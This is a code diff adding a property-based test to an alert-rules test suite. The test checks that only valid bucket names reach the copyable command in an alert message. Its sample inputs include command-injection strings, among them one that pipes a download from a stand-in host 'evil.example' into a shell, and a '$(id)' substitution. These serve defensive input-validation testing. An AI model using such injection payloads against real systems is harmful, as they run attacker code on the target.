@@ -1,5 +1,6 @@
 """The table of alerts, and whom they go to."""
 
+import json
 import re
 from dataclasses import replace
 
@@ -7,8 +8,19 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from resource_repair.naming import is_bucket_name
 from scripts.errors import UsageError
-from scripts.resources.alert_rules import IN_MESSAGE, MESSAGE, OF_A_RUN, QUIET, alert_rules
+from scripts.localcloud.log.analysis import rows
+from scripts.localcloud.log.index import Index
+from scripts.localcloud.log.model import Log
+from scripts.resources.alert_rules import (
+    IN_MESSAGE,
+    MESSAGE,
+    NO_NAME,
+    OF_A_RUN,
+    QUIET,
+    alert_rules,
+)
 from scripts.resources.notifications import webhook_type
 from scripts.resources.recipients import Recipients
 from scripts.spec import PATH, Spec, load
@@ -57,6 +69,28 @@ def test_the_text_names_columns_that_a_row_has(spec: Spec) -> None:
     for rule in alert_rules(spec).values():
         columns = re.findall(r"as (\w+)", rule.query) + re.findall(r"select (\w+),", rule.query)
         assert {*re.findall(r"\$\{(\w+)\}", rule.text), *rule.about} <= set(columns)
+
+
+INDEXED = {name: {"type": "text", "doc_value": True} for name in IN_MESSAGE}
+INDEX = Index.parse({"keys": {MESSAGE: {"type": "json", "token": [" "], "json_keys": INDEXED}}})
+NAMES = st.one_of(
+    st.text(),
+    st.text("abz019-\n"),
+    st.from_regex(r"[a-z0-9-]{1,70}\n?", fullmatch=True),
+    st.sampled_from(["shop", "shop\n", "shop; curl -s evil.example|sh #", "$(id)", "-x-", "ab"]),
+)
+
+
+@pytest.mark.parametrize("alert", ["unsettled", "reopened"])
+@given(name=NAMES)
+def test_only_a_bucket_s_name_reaches_whoever_is_woken(spec: Spec, alert: str, name: str) -> None:
+    """The text has a command to copy: what else is in its place is told as no name at all."""
+    rule = alert_rules(spec)[alert]
+    assert "BUCKET=${bucket}" in rule.text
+    message = json.dumps({"bucket": name, "outcome": "failed"})
+    line = Log(0, "", "", {MESSAGE: message}, INDEX, 0.0)
+    (row,) = rows(rule.query.partition("|")[2].replace("count(1) > 2", "true"), [line], INDEX)
+    assert row["bucket"] == (name if is_bucket_name(name) else NO_NAME)
 
 
 @pytest.mark.parametrize("retries", [0, 3, 8])
